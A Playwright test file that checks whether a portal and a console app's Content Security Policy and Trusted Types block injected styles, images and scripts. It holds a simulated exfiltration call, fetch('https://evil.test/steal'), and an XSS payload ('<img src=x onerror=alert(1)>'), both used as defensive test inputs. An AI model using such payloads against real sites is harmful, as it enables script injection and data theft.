import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { urls } from './urls.ts';

/** Tries what an injected script would do. */
const inject = (page: Page) =>
  page.evaluate(() => {
    const style = document.createElement('style');
    style.textContent = 'body { color: red }';
    document.head.append(style);
    const picture = document.createElement('img');
    picture.src = 'https://evil.test/picture.png';
    document.body.append(picture);
    void fetch('https://evil.test/steal').catch(() => {});
  });

const violations = [
  ['style-src-elem', /^console error: policy violated: style-src-elem inline$/],
  ['img-src', /^console error: policy violated: img-src https:\/\/evil\.test/],
  ['connect-src', /^console error: policy violated: connect-src https:\/\/evil\.test/],
] as const;

for (const app of ['portal', 'console'] as const)
  test(`a seeded policy violation in the ${app} is recorded and would fail the test`, async ({ page, trouble }) => {
    await page.goto(urls[app]);
    await page.waitForLoadState('load');
    await inject(page);
    for (const [what, pattern] of violations)
      await expect.poll(() => trouble.unexpected.some((each) => pattern.test(each)), { message: what }).toBe(true);
    trouble.expect(/policy violated/, /Content Security Policy/, /GET \/api\/me 401/, /evil\.test/);
  });

test('a script cannot turn text into HTML', async ({ page, trouble }) => {
  await page.goto(urls.portal);
  const outcome = await page.evaluate(() => {
    const tried: string[] = [];
    const attempts = {
      innerHTML: () => (document.body.innerHTML = '<img src=x onerror=alert(1)>'),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      write: () => document.write('<b>x</b>'),
    };
    for (const [name, attempt] of Object.entries(attempts))
      try {
        attempt();
        tried.push(name);
      } catch {
        // refused as expected
      }
    return tried;
  });
  expect(outcome).toEqual([]);
  trouble.expect(/policy violated/, /Content Security Policy/, /TrustedHTML|TrustedScript|Trusted Type/);
});
